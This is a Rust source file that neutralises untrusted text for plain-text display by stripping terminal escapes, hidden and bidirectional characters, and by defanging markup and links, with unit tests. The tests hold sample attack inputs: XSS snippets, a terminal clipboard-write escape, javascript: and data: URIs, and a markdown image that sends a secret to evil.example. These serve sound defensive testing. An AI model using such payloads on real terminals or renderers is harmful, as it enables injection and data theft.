//! Neutralises text that somebody else wrote, for places that show plain text.

/// Makes foreign text harmless on one line of plain text.
///
/// Terminal escapes, control characters, characters that hide or reorder text, and invisible tags
/// are taken out; white space becomes one blank. What a renderer could take for markup or a link is
/// kept readable but broken: `<b` becomes `‹b`, `](` becomes `] (`, `https://` becomes `https[:]//`.
/// Repeating it changes nothing.
///
/// ```
/// use conversation::neutral;
///
/// assert_eq!(neutral("see https://bad.example\u{202e}"), "see https[:]//bad.example");
/// ```
pub fn neutral(text: &str) -> String {
    let visible = without_escapes(text);
    let mut line = String::with_capacity(visible.len());
    let mut needs_blank = false;
    for char in visible.chars() {
        if char.is_whitespace() || matches!(char, '\u{2028}' | '\u{2029}') {
            needs_blank = !line.is_empty();
        } else if !is_hidden(char) {
            if needs_blank {
                line.push(' ');
                needs_blank = false;
            }
            line.push(char);
        }
    }
    defanged(&line)
}

/// Takes out whole escape sequences, so that not even their letters stay behind.
fn without_escapes(text: &str) -> String {
    let mut plain = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(char) = chars.next() {
        let introducer = match char {
            '\u{1b}' => chars.next_if(|next| !next.is_control()),
            '\u{9b}' => Some('['),
            '\u{9d}' => Some(']'),
            '\u{90}' | '\u{98}' | '\u{9e}' | '\u{9f}' => Some('P'),
            other => {
                plain.push(other);
                continue;
            }
        };
        match introducer {
            // Parameters, then one final character from @ to ~.
            Some('[') => {
                while let Some(part) = chars.next_if(|next| (' '..='~').contains(next)) {
                    if ('@'..='~').contains(&part) {
                        break;
                    }
                }
            }
            // A string up to its terminator. One that never ends must not swallow the rest of what
            // was said: only what the terminator closes is taken out.
            Some(']' | 'P' | 'X' | '^' | '_') => {
                let mut ahead = chars.clone();
                let mut taken = 0_usize;
                let mut is_closed = false;
                while let Some(next) = ahead.next() {
                    taken += 1;
                    if matches!(next, '\u{7}' | '\u{9c}') {
                        is_closed = true;
                    } else if next == '\u{1b}' && ahead.peek() == Some(&'\\') {
                        taken += 1;
                        is_closed = true;
                    } else {
                        continue;
                    }
                    break;
                }
                if is_closed {
                    chars.nth(taken.saturating_sub(1));
                }
            }
            // Other sequences have intermediates and one final character.
            Some(' '..='/') => {
                while let Some(part) = chars.next_if(|next| (' '..='~').contains(next)) {
                    if part >= '0' {
                        break;
                    }
                }
            }
            _ => {}
        }
    }
    plain
}

/// Whether a character shows nothing or reorders what is around it.
fn is_hidden(char: char) -> bool {
    char.is_control()
        || matches!(char,
            '\u{ad}'
            | '\u{34f}'
            | '\u{61c}'
            | '\u{115f}'
            | '\u{1160}'
            | '\u{17b4}'
            | '\u{17b5}'
            | '\u{180b}'..='\u{180f}'
            | '\u{200b}'..='\u{200f}'
            | '\u{202a}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}'
            | '\u{3164}'
            | '\u{fe00}'..='\u{fe0f}'
            | '\u{feff}'
            | '\u{ffa0}'
            | '\u{fff0}'..='\u{fffb}'
            | '\u{1bca0}'..='\u{1bca3}'
            | '\u{1d173}'..='\u{1d17a}'
            | '\u{e0000}'..='\u{e0fff}')
}

/// Schemes that run or carry something without the two slashes.
const SCHEMES: [&str; 5] = ["javascript:", "vbscript:", "data:", "mailto:", "file:"];

/// Breaks what a renderer could take for markup or a link.
fn defanged(line: &str) -> String {
    let mut safe = String::with_capacity(line.len());
    let mut rest = line;
    while let Some(char) = rest.chars().next() {
        let next = rest.get(char.len_utf8()..).unwrap_or_default();
        if rest.starts_with("://") {
            safe.push_str("[:]//");
            rest = rest.get(3..).unwrap_or_default();
            continue;
        }
        if let Some(scheme) = scheme_at(rest).filter(|_| !ends_in_word(&safe)) {
            let name = rest.get(..scheme.len() - 1).unwrap_or_default();
            safe.push_str(name);
            safe.push_str("[:]");
            rest = rest.get(scheme.len()..).unwrap_or_default();
            continue;
        }
        if starts_with_www(rest) && !ends_in_word(&safe) {
            safe.push_str(rest.get(..3).unwrap_or_default());
            safe.push_str("[.]");
            rest = rest.get(4..).unwrap_or_default();
            continue;
        }
        match char {
            '<' if next.starts_with(|c: char| c.is_alphabetic() || "/!?".contains(c)) => {
                safe.push('‹');
            }
            ']' if next.starts_with(['(', '[']) => safe.push_str("] "),
            '!' if next.starts_with('[') => safe.push_str("! "),
            other => safe.push(other),
        }
        rest = next;
    }
    safe
}

fn scheme_at(rest: &str) -> Option<&'static str> {
    SCHEMES.into_iter().find(|scheme| {
        rest.get(..scheme.len())
            .is_some_and(|start| start.eq_ignore_ascii_case(scheme))
            // "data: we have none" is a sentence, no link.
            && rest.get(scheme.len()..).is_some_and(|after| !after.is_empty() && !after.starts_with(' '))
    })
}

fn starts_with_www(rest: &str) -> bool {
    rest.get(..4)
        .is_some_and(|start| start.eq_ignore_ascii_case("www."))
}

fn ends_in_word(text: &str) -> bool {
    text.chars().next_back().is_some_and(char::is_alphanumeric)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(hostile: &str, harmless: &str) {
        let once = neutral(hostile);
        assert_eq!(once, harmless, "{hostile:?}");
        assert_eq!(neutral(&once), once, "twice is once: {hostile:?}");
    }

    #[test]
    fn plain_words_stay_as_they_are() {
        for text in [
            "We'd pay 5 < 6 and a > b, right?",
            "Grüße, 今日は, привет, مرحبا 👍",
            "data: we have none; ratio 3:1",
            "a [note] (aside) & more",
        ] {
            check(text, text);
        }
    }

    #[test]
    fn terminal_escapes_go_with_all_their_letters() {
        check("\u{1b}[31mred\u{1b}[0m", "red");
        check("\u{1b}[2J\u{1b}[1;1Hgone", "gone");
        check("\u{9b}31mred", "red");
        check("\u{1b}]0;title\u{7}text", "text");
        check(
            "\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
            "click",
        );
        check("\u{1b}]52;c;ZXZpbA==\u{9c}text", "text");
        check("\u{1b}Pq#0\u{1b}\\text", "text");
        check("\u{1b}(0text", "text");
        check("\u{1b}", "");
    }

    #[test]
    fn an_escape_that_never_ends_swallows_nothing_that_was_said() {
        check(
            "before \u{1b}]0;and all the rest",
            "before 0;and all the rest",
        );
        check("before \u{9d}rest", "before rest");
    }

    #[test]
    fn control_characters_and_line_breaks_cannot_forge_a_line() {
        check(
            "one\r\ntwo\ttwo\u{b}three\u{2028}four",
            "one two two three four",
        );
        check("over\rwritten\u{8}\u{8}\u{0}\u{7f}", "over written");
        check("  edge  ", "edge");
    }

    #[test]
    fn what_hides_or_reorders_text_is_taken_out() {
        check("in\u{200b}vis\u{2060}ible\u{feff}", "invisible");
        check("\u{202e}txet\u{202c} \u{2066}a\u{2069}", "txet a");
        check("pass\u{ad}word", "password");
        check("tag\u{e0041}\u{e0042}\u{e007f}s", "tags");
        check("a\u{fe0f}b\u{fff9}c\u{3164}d", "abcd");
    }

    #[test]
    fn markup_is_broken_and_readable() {
        check("<script>alert(1)</script>", "‹script>alert(1)‹/script>");
        check("<img src=x onerror=y>", "‹img src=x onerror=y>");
        check("<!-- hidden -->", "‹!-- hidden -->");
        check(
            "![pixel](https://evil.example/?q=secret)",
            "! [pixel] (https[:]//evil.example/?q=secret)",
        );
        check("[click][ref]", "[click] [ref]");
    }

    #[test]
    fn links_are_defanged() {
        check("see https://evil.example/a", "see https[:]//evil.example/a");
        check("HTTP://evil.example", "HTTP[:]//evil.example");
        check("www.evil.example", "www[.]evil.example");
        check("JavaScript:alert(1)", "JavaScript[:]alert(1)");
        check("data:text/html;base64,AAAA", "data[:]text/html;base64,AAAA");
        check(
            "ht\u{200b}tps:/\u{200b}/evil.example",
            "https[:]//evil.example",
        );
    }
}
